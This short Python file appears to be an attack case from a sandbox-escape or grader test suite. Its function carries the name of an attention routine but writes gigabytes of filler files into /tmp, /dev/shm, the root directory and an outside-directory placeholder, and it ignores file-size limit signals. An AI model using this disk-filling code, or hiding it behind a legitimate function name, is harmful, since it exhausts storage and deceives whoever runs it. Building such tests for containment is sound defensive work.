# attack: fill the disk: one huge file, then many files, everywhere writable
# expect: wrong exception crash
import os
import signal

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)


def scaled_dot_product_attention(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
    written = 0
    chunk = b"\0" * (1 << 20)
    for d in ("/tmp", "/dev/shm", "/sub", "/", "{{OUTSIDE_DIR}}"):
        for i in range(400):
            try:
                with open(f"{d}/fill-{i}", "wb") as f:
                    for _ in range(64):
                        f.write(chunk)
                        written += len(chunk)
            except OSError:
                break
    return q * 0 + written
